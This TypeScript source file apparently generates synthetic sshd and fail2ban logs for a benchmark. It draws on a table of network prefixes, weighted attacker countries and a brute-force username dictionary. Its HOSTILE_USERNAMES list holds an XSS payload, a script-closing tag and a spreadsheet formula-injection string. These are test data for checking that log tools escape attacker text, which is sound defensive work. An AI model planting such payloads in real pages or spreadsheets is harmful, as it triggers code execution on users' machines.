  ["188.24.0.0/16", "RO", "isp", "DIGI Romania (RCS & RDS)"],
  ["79.114.0.0/16", "RO", "isp", "DIGI Romania (RCS & RDS)"],
  ["95.42.0.0/16", "BG", "isp", "Vivacom"],
  ["78.80.0.0/16", "CZ", "isp", "T-Mobile Czech"],
  ["89.102.0.0/16", "CZ", "isp", "Vodafone Czech"],
  ["81.224.0.0/16", "SE", "isp", "Telia"],
  ["78.64.0.0/16", "SE", "isp", "Telia"],
  ["84.208.0.0/16", "NO", "isp", "Telia Norge"],
  ["87.48.0.0/16", "DK", "isp", "TDC"],
  ["80.108.0.0/16", "AT", "isp", "Magenta Telekom"],
  ["178.192.0.0/16", "CH", "isp", "Swisscom"],
  ["81.240.0.0/16", "BE", "isp", "Proximus"],
  ["2.80.0.0/16", "PT", "isp", "MEO"],
  ["94.64.0.0/16", "GR", "isp", "OTE"],
  ["84.0.0.0/16", "HU", "isp", "Magyar Telekom"],
  ["80.94.95.0/24", "HU", "hosting", "SS-Net"],
  ["78.56.0.0/16", "LT", "isp", "Telia Lietuva"],
  ["141.98.10.0/24", "LT", "hosting", "UAB Host Baltic"],
  ["45.148.10.0/24", "AD", "hosting", "Techoff Srv"],
  // North America, Oceania
  ["5.161.0.0/16", "US", "hosting", "Hetzner"],
  ["3.80.0.0/16", "US", "hosting", "Amazon AWS"],
  ["44.192.0.0/16", "US", "hosting", "Amazon AWS"],
  ["54.144.0.0/16", "US", "hosting", "Amazon AWS"],
  ["52.14.0.0/16", "US", "hosting", "Amazon AWS"],
  ["35.184.0.0/16", "US", "hosting", "Google Cloud"],
  ["34.68.0.0/16", "US", "hosting", "Google Cloud"],
  ["40.76.0.0/16", "US", "hosting", "Microsoft Azure"],
  ["52.224.0.0/16", "US", "hosting", "Microsoft Azure"],
  ["104.236.0.0/16", "US", "hosting", "DigitalOcean"],
  ["162.243.0.0/16", "US", "hosting", "DigitalOcean"],
  ["192.241.128.0/17", "US", "hosting", "DigitalOcean"],
  ["45.33.0.0/17", "US", "hosting", "Linode (Akamai)"],
  ["45.56.64.0/18", "US", "hosting", "Linode (Akamai)"],
  ["50.116.0.0/18", "US", "hosting", "Linode (Akamai)"],
  ["66.175.208.0/20", "US", "hosting", "Linode (Akamai)"],
  ["96.126.96.0/19", "US", "hosting", "Linode (Akamai)"],
  ["45.32.128.0/20", "US", "hosting", "Vultr"],
  ["108.61.128.0/19", "US", "hosting", "Vultr"],
  ["209.141.32.0/19", "US", "hosting", "FranTech (BuyVM)"],
  ["205.185.112.0/20", "US", "hosting", "FranTech (BuyVM)"],
  ["107.172.0.0/16", "US", "hosting", "ColoCrossing (HostPapa)"],
  ["192.3.0.0/16", "US", "hosting", "ColoCrossing (HostPapa)"],
  ["73.0.0.0/16", "US", "isp", "Comcast"],
  ["98.192.0.0/16", "US", "isp", "Comcast"],
  ["99.0.0.0/16", "US", "isp", "AT&T"],
  ["23.240.0.0/16", "US", "isp", "Charter (Spectrum)"],
  ["68.0.0.0/16", "US", "isp", "Cox Communications"],
  ["167.94.138.0/24", "US", "scanner", "Censys"],
  ["162.142.125.0/24", "US", "scanner", "Censys"],
  ["206.168.34.0/24", "US", "scanner", "Censys"],
  ["71.6.146.0/24", "US", "scanner", "CariNet (Shodan)"],
  ["198.20.69.0/24", "US", "scanner", "Internap (Shodan)"],
  ["99.224.0.0/16", "CA", "isp", "Rogers"],
  ["70.24.0.0/16", "CA", "isp", "Bell Canada"],
  ["159.203.0.0/18", "CA", "hosting", "DigitalOcean"],
  ["1.120.0.0/16", "AU", "isp", "Telstra"],
  ["101.160.0.0/16", "AU", "isp", "Telstra"],
  ["58.160.0.0/16", "AU", "isp", "Telstra"],
  ["124.168.0.0/16", "AU", "isp", "iiNet"],
  ["170.64.128.0/17", "AU", "hosting", "DigitalOcean"],
  // Crawlers (visitors, not attackers)
  ["66.249.72.0/21", "US", "crawler", "Google (Googlebot)"],
  ["40.77.167.0/24", "US", "crawler", "Microsoft (bingbot)"],
  ["157.55.39.0/24", "US", "crawler", "Microsoft (bingbot)"],
  ["17.241.0.0/16", "US", "crawler", "Apple (Applebot)"],
  ["185.191.171.0/24", "US", "crawler", "Semrush"],
  ["54.36.148.0/23", "FR", "crawler", "OVH (AhrefsBot)"],
  ["5.255.253.0/24", "RU", "crawler", "Yandex"],
  ["114.119.128.0/18", "SG", "crawler", "Huawei (PetalBot)"],
  // IPv6
  ["2a01:4f8::/32", "DE", "hosting", "Hetzner"],
  ["2a01:4f9::/32", "DE", "hosting", "Hetzner"],
  ["2a02:c207::/32", "DE", "hosting", "Contabo"],
  ["2003::/19", "DE", "isp", "Deutsche Telekom"],
  ["2604:a880::/32", "US", "hosting", "DigitalOcean"],
  ["2600:3c00::/32", "US", "hosting", "Linode (Akamai)"],
  ["2001:19f0:5::/48", "US", "hosting", "Vultr"],
  ["2001:41d0::/32", "FR", "hosting", "OVH"],
  ["2001:bc8:600::/40", "FR", "hosting", "Scaleway"],
  ["2607:5300::/32", "CA", "hosting", "OVH"],
  ["2a01:7e00::/32", "GB", "hosting", "Linode (Akamai)"],
  ["240e::/20", "CN", "isp", "China Telecom"],
  ["2408:8000::/20", "CN", "isp", "China Unicom"],
  ["2409:8000::/20", "CN", "isp", "China Mobile"],
];

/** Every prefix of the address table. */
export const NETWORKS: readonly Network[] = ROWS.map(([cidr, country, kind, name]) => ({
  cidr,
  country,
  kind,
  name,
}));

interface ParsedPrefix {
  readonly net: Network;
  readonly v6: boolean;
  /** IPv4: first address as an unsigned integer. */
  readonly base: number;
  /** IPv4: number of addresses. */
  readonly size: number;
  /** IPv6: the eight groups of the prefix. */
  readonly groups: readonly number[];
  readonly length: number;
}

function parseV4(text: string): number {
  const parts = text.split(".").map(Number);
  return ((parts[0] << 24) >>> 0) + (parts[1] << 16) + (parts[2] << 8) + parts[3];
}

function v4Text(n: number): string {
  return `${n >>> 24}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}`;
}

function parseV6Groups(text: string): number[] {
  const [head, tail = ""] = text.split("::");
  const h = head === "" ? [] : head.split(":").map((g) => parseInt(g, 16));
  const t = tail === "" ? [] : tail.split(":").map((g) => parseInt(g, 16));
  return [...h, ...new Array(8 - h.length - t.length).fill(0), ...t];
}

function parsePrefix(net: Network): ParsedPrefix {
  const [addr, len] = net.cidr.split("/");
  const length = Number(len);
  if (addr.includes(":")) {
    return { net, v6: true, base: 0, size: 0, groups: parseV6Groups(addr), length };
  }
  return { net, v6: false, base: parseV4(addr), size: 2 ** (32 - length), groups: [], length };
}

const PREFIXES: readonly ParsedPrefix[] = NETWORKS.map(parsePrefix);

/** A random host address inside a prefix (IPv4: never .0 or .255). */
function randomAddress(prefix: ParsedPrefix, rng: Random): string {
  if (!prefix.v6) {
    for (;;) {
      const n = prefix.base + rng.int(prefix.size);
      const last = n & 255;
      if (last !== 0 && last !== 255) return v4Text(n);
    }
  }
  const groups = prefix.groups.slice();
  for (let g = 0; g < 8; g++) {
    const start = g * 16;
    if (start + 16 <= prefix.length) continue;
    const random = rng.int(0x10000);
    if (start >= prefix.length) groups[g] = random;
    else {
      const keep = prefix.length - start;
      const mask = (0xffff << (16 - keep)) & 0xffff;
      groups[g] = (groups[g] & mask) | (random & ~mask & 0xffff);
    }
  }
  if (prefix.net.kind === "hosting") {
    // a cloud server: its own /64, host ::1 or a small number
    groups[4] = 0;
    groups[5] = 0;
    groups[6] = 0;
    groups[7] = rng.chance(0.7) ? 1 : 2 + rng.int(254);
  } else if (prefix.net.name === "Deutsche Telekom") {
    groups[3] &= 0xff00; // a customer /56
    groups[3] |= rng.int(4);
  }
  if (groups[0] === 0) groups[0] = prefix.groups[0] || 0x2a01;
  return formatIpv6(groups);
}

/** An address in the same /24 (IPv4) or /64 (IPv6) as `ip`. */
function neighbourAddress(ip: string, rng: Random): string {
  if (ip.includes(":")) {
    const groups = parseV6Groups(ip);
    groups[7] = 2 + rng.int(0xfff0);
    return formatIpv6(groups);
  }
  const n = parseV4(ip) & 0xffffff00;
  return v4Text(n + 1 + rng.int(254));
}

function slug(text: string): string {
  let out = "";
  for (const ch of text.toLowerCase()) {
    if ((ch >= "a" && ch <= "z") || (ch >= "0" && ch <= "9")) out += ch;
    else if (!out.endsWith("-")) out += "-";
  }
  return out.replace(/^-|-$/g, "");
}

/** A made-up reverse DNS name under `.example` for an address. */
function reverseName(ip: string, net: Network): string {
  return `${ip.replaceAll(".", "-").replaceAll(":", "-")}.${slug(net.name)}.example`;
}

/** Relative share of attackers per country (others 1). */
const ATTACKER_COUNTRY_WEIGHT: Readonly<Record<string, number>> = {
  CN: 20,
  US: 11,
  IN: 6,
  VN: 6,
  BR: 6,
  RU: 5,
  NL: 5,
  ID: 4,
  KR: 4,
  SG: 3,
  HK: 3,
  TW: 3,
  FR: 3,
  DE: 3,
  GB: 2,
  TH: 2,
  PH: 2,
  AR: 2,
  MX: 2,
  CO: 2,
  IR: 2,
  TR: 2,
  UA: 2,
  JP: 2,
  PK: 1.5,
  BD: 1.5,
  EG: 1.5,
  PL: 1.5,
  RO: 1.5,
  IT: 1.5,
  ES: 1.5,
  CA: 1.5,
  TN: 0.6,
  NO: 0.5,
  DK: 0.5,
  AT: 0.5,
  CH: 0.5,
  BE: 0.5,
  PT: 0.6,
  GR: 0.6,
  GE: 0.5,
  AD: 0.6,
};

/** Relative share of blog readers per country (others 0.4); the home country gets 30. */
const VISITOR_COUNTRY_WEIGHT: Readonly<Record<string, number>> = {
  DE: 25,
  US: 10,
  AT: 5,
  CH: 5,
  GB: 5,
  NL: 4,
  FR: 4,
  PL: 2,
  SE: 2,
  IT: 2,
  ES: 2,
  CA: 2,
  AU: 1.5,
  IN: 1.5,
  BR: 1,
  JP: 1,
  CZ: 1,
  DK: 1,
  NO: 1,
  FI: 1,
  BE: 1,
};

/** Chooses networks and unique addresses for the population. */
class AddressBook {
  private readonly used = new Set<string>();
  private readonly byCountry = new Map<string, ParsedPrefix[]>();
  private readonly attackerCountries: string[];
  private readonly attackerWeights: number[];

  constructor(readonly homeCountry: string, reserved: Iterable<string> = []) {
    for (const ip of reserved) this.used.add(ip);
    for (const p of PREFIXES) {
      const list = this.byCountry.get(p.net.country) ?? [];
      list.push(p);
      this.byCountry.set(p.net.country, list);
    }
    this.attackerCountries = [...this.byCountry.keys()].filter((cc) =>
      this.byCountry.get(cc)!.some((p) =>
        !p.v6 && (p.net.kind === "isp" || p.net.kind === "hosting")
      )
    );
    this.attackerWeights = this.attackerCountries.map((cc) => {
      const w = ATTACKER_COUNTRY_WEIGHT[cc] ?? 1;
      return cc === homeCountry ? w * 0.15 : w;
    });
  }

  /** Prefixes of a country with one of the kinds (IPv4 unless `v6`). */
  prefixes(country: string, kinds: readonly NetworkKind[], v6 = false): ParsedPrefix[] {
    return (this.byCountry.get(country) ?? []).filter((p) =>
      p.v6 === v6 && kinds.includes(p.net.kind)
    );
  }

  /** A fresh address in the prefix, or undefined when the prefix looks full. */
  tryTake(prefix: ParsedPrefix, rng: Random, attempts = 60): Host | undefined {
    for (let i = 0; i < attempts; i++) {
      const ip = randomAddress(prefix, rng);
      if (!this.used.has(ip)) {
        this.used.add(ip);
        return { ip, net: prefix.net };
      }
    }
    return undefined;
  }

  /** A fresh address in the prefix. */
  take(prefix: ParsedPrefix, rng: Random): Host {
    const host = this.tryTake(prefix, rng, 2000);
    if (host === undefined) {
      throw new RangeError(`Cannot find a free address in ${prefix.net.cidr}`);
    }
    return host;
  }

  /** A fresh address next to `host` (same /24 or /64), or undefined when that /24 looks full. */
  tryNeighbour(host: Host, rng: Random, attempts = 60): Host | undefined {
    for (let i = 0; i < attempts; i++) {
      const ip = neighbourAddress(host.ip, rng);
      if (!this.used.has(ip)) {
        this.used.add(ip);
        return { ip, net: host.net };
      }
    }
    return undefined;
  }

  /** A fresh address next to `host` (same /24 or /64). */
  neighbour(host: Host, rng: Random): Host {
    const found = this.tryNeighbour(host, rng, 2000);
    if (found === undefined) throw new RangeError(`Cannot find a free address next to ${host.ip}`);
    return found;
  }

  /** A fresh attacker address: a weighted country, then a prefix (hosting slightly preferred). */
  attacker(rng: Random, kinds: readonly NetworkKind[] = ["isp", "hosting"]): Host {
    for (;;) {
      const cc = rng.weighted(this.attackerCountries, this.attackerWeights);
      const list = this.prefixes(cc, kinds);
      if (list.length === 0) continue;
      const prefix = rng.weighted(list, list.map((p) => (p.net.kind === "hosting" ? 1.3 : 1)));
      const host = this.tryTake(prefix, rng);
      if (host !== undefined) return host;
    }
  }

  /** A fresh address of a named network (first prefix whose name starts with `name`). */
  named(name: string, rng: Random, v6 = false): Host {
    const list = PREFIXES.filter((p) => p.v6 === v6 && p.net.name.startsWith(name));
    if (list.length === 0) throw new RangeError(`No network named "${name}" in the address table`);
    return this.take(rng.pick(list), rng);
  }

  /** A fresh address of a given prefix. */
  inPrefix(cidr: string, rng: Random): Host {
    const prefix = PREFIXES.find((p) => p.net.cidr === cidr);
    if (prefix === undefined) throw new RangeError(`No prefix ${cidr} in the address table`);
    return this.take(prefix, rng);
  }

  private visitorCountries: { countries: string[]; weights: number[] } | undefined;

  /** A blog reader's address. */
  visitor(rng: Random): Host {
    if (this.visitorCountries === undefined) {
      const countries = [...this.byCountry.keys()].filter((cc) =>
        this.prefixes(cc, ["isp"]).length > 0
      );
      const weights = countries.map((cc) =>
        cc === this.homeCountry ? 30 : (VISITOR_COUNTRY_WEIGHT[cc] ?? 0.4)
      );
      this.visitorCountries = { countries, weights };
    }
    const { countries, weights } = this.visitorCountries;
    for (;;) {
      const cc = rng.weighted(countries, weights);
      const host = this.tryTake(rng.pick(this.prefixes(cc, ["isp"])), rng);
      if (host !== undefined) return host;
    }
  }
}

/** An address with its network. */
interface Host {
  readonly ip: string;
  readonly net: Network;
}

// ---------------------------------------------------------------------------
// User names
// ---------------------------------------------------------------------------

/** The brute-force dictionary (in the order bots usually walk it). */
export const USERNAMES: readonly string[] = (
  "root admin test user ubuntu oracle postgres git pi ftpuser deploy guest support ubnt test1 " +
  "user1 mysql hadoop jenkins tomcat www www-data nagios backup operator debian centos " +
  "ec2-user azureuser vagrant docker minecraft steam teamspeak ts3 es elastic elasticsearch " +
  "kafka zookeeper redis mongo mongodb odoo sonar gitlab gitlab-runner nexus ansible " +
  "administrator sysadmin webadmin web webmaster dev developer devops ftp ftpadmin sftp " +
  "sftpuser mail postfix student teacher test2 testuser demo temp tmp office sales info " +
  "manager server service system default dell cisco huawei zyfwp telecomadmin admin1 " +
  "admin123 usuario user01 solana sol validator node bitcoin eth trader deployer app " +
  "appuser runner ci build jira confluence zabbix prometheus grafana influxdb pgsql " +
  "db2inst1 sapadm hdfs spark flink squid proxy vpn openvpn wireguard csgo factorio mc " +
  "lighthouse dolphinscheduler uftp nvidia orangepi raspberry daemon nobody superadmin " +
  "root1 ubuntu1 share samba svn bot discord gpadmin hive kibana logstash rabbitmq apache " +
  "nginx httpd php wordpress wp cpanel plesk vmail openhabian kali anonymous"
).split(" ");

/** Hostile user names that appear once each in the sample (attacker-controlled text). */
export const HOSTILE_USERNAMES: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "</script>",
  "=cmd|' /C calc'!A0",
  "test user",
  "",
];

/** Accounts that exist on the server (sshd says "Failed password for X", not "invalid user"). */
const VALID_USERS = new Set([
  "root",
  "admin",
  "daemon",
  "bin",
  "sys",
  "sync",
  "games",
  "man",
  "lp",
  "mail",
  "news",
  "uucp",
  "proxy",
  "www-data",
  "backup",
  "list",
  "irc",
  "nobody",
  "_apt",
  "sshd",
  "messagebus",
]);

// ---------------------------------------------------------------------------
// sshd sessions (one TCP connection each)
// ---------------------------------------------------------------------------

/** Where sshd sessions write. */
interface AuthOut {
  /** One syslog line; `tag` is `program[pid]` or `program`. */
  line(t: number, tag: string, message: string): void;
  /** A line that fail2ban's sshd filter counts (it logs `Found`). */
  failure(t: number, ip: string): void;
}

/** One connection. */
interface Conn {
  t: number;
  ip: string;
  port: number;
  tag: string;
  /** Reverse DNS name whose forward lookup fails (UseDNS yes). */
  rdns?: string;
}

/** How a bot talks to sshd. */
type Style = "root" | "dictionary" | "mixed" | "keyprobe" | "kex" | "slow";

/** The per-attacker state that sessions use. */
interface SshAttacker {
  host: Host;
  style: Style;
  /** User names it walks through, and where it is. */
  names: readonly string[];
  cursor: number;
  /** Method it claims in `Failed <method>` lines. */
  method: "password" | "keyboard-interactive/pam";
  rdns?: string;
}

function pamTail(ip: string, user: string | undefined): string {
  return `logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}${
    user === undefined ? "" : "  user=" + user
  }`;
}

function randomPort(rng: Random): number {
  return rng.chance(0.7) ? rng.between(32768, 60999) : rng.between(1024, 65535);
}

const KEY_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/** `SHA256:` + 43 base64 characters, like ssh-keygen -l. */
function fingerprint(rng: Random): string {
  let s = "SHA256:";
  for (let i = 0; i < 43; i++) s += KEY_ALPHABET[rng.int(64)];
  return s;
}

/**
 * Password guessing: `tries` passwords for one user in one connection.
 * `noneFirst` is the chance that the bot first tries auth method "none".
 */
function passwordSession(
  out: AuthOut,
  rng: Random,
  c: Conn,
  user: string,
  tries: number,
  method = "password",
  noneFirst = 0.04,
): number {
  const { ip, port, tag } = c;
  let t = c.t;
  const valid = VALID_USERS.has(user);
  const inv = valid ? "" : "invalid user ";
  const who = valid ? "authenticating" : "invalid";
  const pamUser = valid ? user : undefined;
  if (c.rdns !== undefined) {
    out.line(
      t,
      tag,
      `reverse mapping checking getaddrinfo for ${c.rdns} [${ip}] failed - POSSIBLE BREAK-IN ATTEMPT!`,
    );
  }
  t += 60 + rng.int(700);
  if (!valid) {
    out.line(t, tag, `Invalid user ${user} from ${ip} port ${port}`);
    out.failure(t, ip);
    if (rng.chance(noneFirst)) {
      t += 100 + rng.int(300);
      out.line(t, tag, `Failed none for invalid user ${user} from ${ip} port ${port} ssh2`);
      out.failure(t, ip);
    }
  }
  t += 150 + rng.int(1300);
  if (!valid) out.line(t, tag, "pam_unix(sshd:auth): check pass; user unknown");
  out.line(t, tag, `pam_unix(sshd:auth): authentication failure; ${pamTail(ip, pamUser)}`);
  t += 1900 + rng.int(600);
  const failed = `Failed ${method} for ${inv}${user} from ${ip} port ${port} ssh2`;
  out.line(t, tag, failed);
  out.failure(t, ip);
  if (tries === 2) {
    t += 2000 + rng.int(900);
    out.line(t, tag, failed);
    out.failure(t, ip);
  } else if (tries > 2) {
    t += (tries - 1) * (2000 + rng.int(700));
    out.line(t, tag, `message repeated ${tries - 1} times: [ ${failed}]`);
    out.failure(t, ip);
  }
  if (tries >= 6) {
    t += 40 + rng.int(400);
    out.line(
      t,
      tag,
      `error: maximum authentication attempts exceeded for ${inv}${user} from ${ip} port ${port} ssh2 [preauth]`,
    );
    out.failure(t, ip);
    out.line(
      t,
      tag,
      `Disconnecting ${who} user ${user} ${ip} port ${port}: Too many authentication failures [preauth]`,
    );
    out.line(t, tag, `PAM ${tries - 1} more authentication failures; ${pamTail(ip, pamUser)}`);
    out.line(t, tag, "PAM service(sshd) ignoring max retries; 6 > 3");
    return t;
  }
  t += 80 + rng.int(900);
  const end = rng.float();
  if (end < 0.55) {
    out.line(t, tag, `Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`);
    out.line(t, tag, `Disconnected from ${who} user ${user} ${ip} port ${port} [preauth]`);
  } else if (end < 0.9) {
    out.line(t, tag, `Connection closed by ${who} user ${user} ${ip} port ${port} [preauth]`);
  } else if (end < 0.95) {
    out.line(t, tag, `Connection reset by ${who} user ${user} ${ip} port ${port} [preauth]`);
  } else {
    out.line(
      t,
      tag,
      `Received disconnect from ${ip} port ${port}:3: com.jcraft.jsch.JSchException: Auth fail [preauth]`,
    );
    out.line(t, tag, `Disconnected from ${who} user ${user} ${ip} port ${port} [preauth]`);
  }
  if (tries > 1) {
    const more = tries - 1;
    out.line(
      t,
      tag,
      `PAM ${more} more authentication failure${more === 1 ? "" : "s"}; ${pamTail(ip, pamUser)}`,
    );
  }
  return t;
}

/** A bot that only offers keys (or nothing) and leaves: no password failure. */
function probeSession(out: AuthOut, rng: Random, c: Conn, user: string): number {
  const { ip, port, tag } = c;
  let t = c.t + 200 + rng.int(1500);
  if (VALID_USERS.has(user)) {
    const x = rng.float();
    if (x < 0.75) {
      out.line(
        t,
        tag,
        `Connection closed by authenticating user ${user} ${ip} port ${port} [preauth]`,
      );
    } else if (x < 0.93) {
      out.line(t, tag, `Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`);
      out.line(
        t,
        tag,
        `Disconnected from authenticating user ${user} ${ip} port ${port} [preauth]`,
      );
    } else {
      out.line(
        t,
        tag,
        `Failed publickey for ${user} from ${ip} port ${port} ssh2: RSA ${fingerprint(rng)}`,
      );
      t += 100 + rng.int(500);
      out.line(
        t,
        tag,
        `Connection closed by authenticating user ${user} ${ip} port ${port} [preauth]`,
      );
    }
    return t;
  }
  out.line(t, tag, `Invalid user ${user} from ${ip} port ${port}`);
  out.failure(t, ip);
  t += 100 + rng.int(900);
  if (rng.chance(0.6)) {
    out.line(t, tag, `Connection closed by invalid user ${user} ${ip} port ${port} [preauth]`);
  } else {
    out.line(t, tag, `Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`);
    out.line(t, tag, `Disconnected from invalid user ${user} ${ip} port ${port} [preauth]`);
  }
  return t;
}

const KEX_OFFERS = [
  "diffie-hellman-group1-sha1",
  "diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1",
  "diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
  "diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1",
];

/** Scanners and broken clients that never get to authentication. */
function kexSession(out: AuthOut, rng: Random, c: Conn, afterUpgrade: boolean): number {
  const { ip, port, tag } = c;
  const t = c.t + rng.int(3000);
  const v = rng.int(100);
  if (v < 28) out.line(t, tag, `Connection closed by ${ip} port ${port} [preauth]`);
  else if (v < 36) out.line(t, tag, `Connection reset by ${ip} port ${port} [preauth]`);
  else if (v < 46) {
    out.line(t, tag, `Did not receive identification string from ${ip} port ${port}`);
  } else if (v < 60) {
    out.line(t, tag, "error: kex_exchange_identification: Connection closed by remote host");
    out.line(t, tag, `Connection closed by ${ip} port ${port}`);
  } else if (v < 66) {
    out.line(t, tag, "error: kex_exchange_identification: read: Connection reset by peer");
    out.line(t, tag, `Connection reset by ${ip} port ${port}`);
  } else if (v < 80) {
    out.line(
      t,
      tag,
      `Unable to negotiate with ${ip} port ${port}: no matching key exchange method found. Their offer: ${
        rng.pick(KEX_OFFERS)
      } [preauth]`,
    );
  } else if (v < 84) {
    out.line(
      t,
      tag,
      `Unable to negotiate with ${ip} port ${port}: no matching host key type found. Their offer: ssh-rsa,ssh-dss [preauth]`,
    );
  } else if (v < 90) {
    out.line(t, tag, `Bad protocol version identification '\\003' from ${ip} port ${port}`);
  } else if (v < 93) {
    out.line(
      t,
      tag,
      `Bad protocol version identification 'GET / HTTP/1.1' from ${ip} port ${port}`,
    );
  } else if (v < 96) {
    out.line(
      t,
      tag,
      'error: kex_exchange_identification: client sent invalid protocol identifier "GET / HTTP/1.1"',
    );
    out.line(t, tag, `banner exchange: Connection from ${ip} port ${port}: invalid format`);
  } else if (v < 98) {
    const ours = afterUpgrade
      ? "SSH-2.0-OpenSSH_10.0p2 Debian-7"
      : "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u7";
    out.line(
      t,
      tag,
      `Protocol major versions differ for ${ip} port ${port}: ${ours} vs. SSH-1.5-Nmap-SSH1-Hostkey`,
    );
  } else {
    out.line(t + 120 * SECOND, tag, `fatal: Timeout before authentication for ${ip} port ${port}`);
    return t + 120 * SECOND;
  }
  return t;
}

const ROOT_TRIES = [1, 2, 3, 4, 5, 6];
const ROOT_TRY_WEIGHTS = [0.34, 0.14, 0.12, 0.08, 0.06, 0.26];

function nextName(a: SshAttacker): string {
  const name = a.names[a.cursor % a.names.length];
  a.cursor++;
  return name;
}

/** One connection of an attacker, in its style. Returns the time of its last line. */
function attackSession(
  out: AuthOut,
  rng: Random,
  a: SshAttacker,
  t: number,
  tag: string,
  afterUpgrade: boolean,
): number {
  const c: Conn = {
    t,
    ip: a.host.ip,
    port: randomPort(rng),
    tag,
    rdns: a.rdns !== undefined && rng.chance(0.8) ? a.rdns : undefined,
  };
  switch (a.style) {
    case "root":
      if (rng.chance(0.08)) return probeSession(out, rng, c, "root");
      return passwordSession(
        out,
        rng,
        c,
        rng.chance(0.92) ? "root" : rng.pick(["admin", "ubuntu", "test", "user"]),
        rng.weighted(ROOT_TRIES, ROOT_TRY_WEIGHTS),
        a.method,
      );
    case "dictionary":
    case "slow":
      return passwordSession(
        out,
        rng,
        c,
        nextName(a),
        a.style === "slow" || rng.chance(0.85) ? 1 : 2,
        a.method,
        a.style === "slow" ? 0 : 0.04,
      );
    case "mixed":
      if (rng.chance(0.45)) {
        return passwordSession(out, rng, c, "root", rng.between(1, 3), a.method);
      }
      if (rng.chance(0.15)) return probeSession(out, rng, c, nextName(a));
      return passwordSession(out, rng, c, nextName(a), 1, a.method);
    case "keyprobe":
      return probeSession(out, rng, c, rng.chance(0.9) ? "root" : nextName(a));
    case "kex":
      return kexSession(out, rng, c, afterUpgrade);
  }
}

/**
 * The failure lines of one attack connection, without writing its text:
 * the same counts and timing as {@linkcode attackSession}, for the
 * fail2ban benchmark (which only needs what the sshd filter sees).
 */
function attackFailures(rng: Random, a: SshAttacker, t: number, fail: (t: number) => void): number {
  const tries = (n: number, valid: boolean) => {
    if (!valid) fail(t += 60 + rng.int(700));
    t += 150 + rng.int(1300) + 1900 + rng.int(600);
    fail(t);
    if (n === 2) fail(t += 2000 + rng.int(900));
    else if (n > 2) fail(t += (n - 1) * (2000 + rng.int(700)));
    if (n >= 6) fail(t += 40 + rng.int(400));
    return t + 500;
  };
  switch (a.style) {
    case "root":
      if (rng.chance(0.08)) return t + 1000;
      return tries(
        rng.weighted(ROOT_TRIES, ROOT_TRY_WEIGHTS),
        rng.chance(0.92) || rng.chance(0.25),
      );
    case "dictionary":
    case "slow":
      return tries(a.style === "slow" || rng.chance(0.85) ? 1 : 2, VALID_USERS.has(nextName(a)));
    case "mixed":
      if (rng.chance(0.45)) return tries(rng.between(1, 3), true);
      if (rng.chance(0.15)) {
        if (!VALID_USERS.has(nextName(a))) fail(t + 300);
        return t + 1000;
      }
      return tries(1, VALID_USERS.has(nextName(a)));
    default:
      return t + 1000;
  }
}

/** Process ids: each sshd connection forks a couple of processes. */
class PidCounter {
  constructor(private next: number, private readonly rng: Random) {}
  take(step = 2): number {
    this.next += step + this.rng.int(4);
    if (this.next > 4_194_000) this.next = 400 + this.rng.int(200);
    return this.next;
  }
  reset(to: number): void {
    this.next = to;
  }
}

/** `sshd` before the distribution upgrade, `sshd-session` after it (OpenSSH ≥ 9.8). */
function sshProgram(t: number): string {
  return t >= TIMELINE.rebootStart ? "sshd-session" : "sshd";
}

// ---------------------------------------------------------------------------
// fail2ban simulation
// ---------------------------------------------------------------------------

/** Receives one fail2ban.log record (`message` may span lines: a traceback). */
type Fail2banOut = (t: number, logger: string, level: string, message: string) => void;

/** Formats one fail2ban 1.x log line (`%(asctime)s %(name)-24s[%(process)d]: %(levelname)-7s %(message)s`). */
export function fail2banLine(
  t: number,
  logger: string,
  pid: number,
  level: string,
  message: string,
): string {
  return `${fail2banStamp(t)} ${logger.padEnd(24)}[${pid}]: ${level.padEnd(7)} ${message}`;
}

/** {@linkcode fail2banLine} with cached stamps and padding, for the benchmark writer. */
class Fail2banFormatter {
  private readonly clock = new StampCache(isoSeconds);
  private readonly heads = new Map<string, string>();
  line(t: number, logger: string, pid: number, level: string, message: string): string {
    const key = logger + level + pid;
    let head = this.heads.get(key);
    if (head === undefined) {
      head = ` ${logger.padEnd(24)}[${pid}]: ${level.padEnd(7)} `;
      this.heads.set(key, head);
    }
    return this.clock.withMillis(t) + head + message;
  }
}

/** One ban, as the simulation decided it. */
export interface BanRecord {
  /** The jail that banned. */
  readonly jail: JailName;
  /** The banned address. */
  readonly ip: string;
  /** Time of the `Ban` line (ms). */
  readonly from: number;
  /** Time of the `Unban` line (ms), or when the ban was flushed by a stop. */
  until: number;
  /** How many times the IP was banned in the last 24 h, this one included. */
  readonly count: number;
}

interface JailState {
  readonly name: JailName;
  readonly logPath: string;
  failures: Map<string, number[]>;
  whileBanned: Map<string, number[]>;
  active: Map<string, BanRecord>;
  history: Map<string, { count: number; last: number }>;
}

const JAIL_LOG_PATHS: Readonly<Record<JailName, string>> = {
  sshd: "/var/log/auth.log",
  "nginx-http-auth": "/var/log/nginx/error.log",
};

/**
 * A small model of fail2ban: Found per failure line, Ban after `maxRetry`
 * failures within `findTime`, Unban after `banTime` (doubled for repeat
 * offenders within 24 h up to `maxTime`, logged as `Increase Ban`),
 * `already banned` when failures keep coming during a ban, Restore Ban after
 * a restart.
 */
class Fail2banSim {
  pid = 0;
  running = false;
  readonly bans: BanRecord[] = [];
  onBan: ((ban: BanRecord) => void) | undefined;
  private readonly jails = new Map<JailName, JailState>();
  private readonly unbans = new MinHeap<{ t: number; ban: BanRecord }>();
  private readonly pending = new Map<JailName, { t: number; ip: string }[]>();
  private lastLog = 0;
  private version = "1.0.2";
  private readonly foundClock = new StampCache(isoSeconds);

  constructor(private readonly out: Fail2banOut, private readonly rng: Random) {}

  private log(t: number, logger: string, level: string, message: string): number {
    if (t < this.lastLog) t = this.lastLog;
    this.lastLog = t;
    this.out(t, logger, level, message);
    return t;
  }

  /** Time of the next scheduled Unban, or Infinity. */
  nextUnban(): number {
    return this.unbans.peek()?.t ?? Infinity;
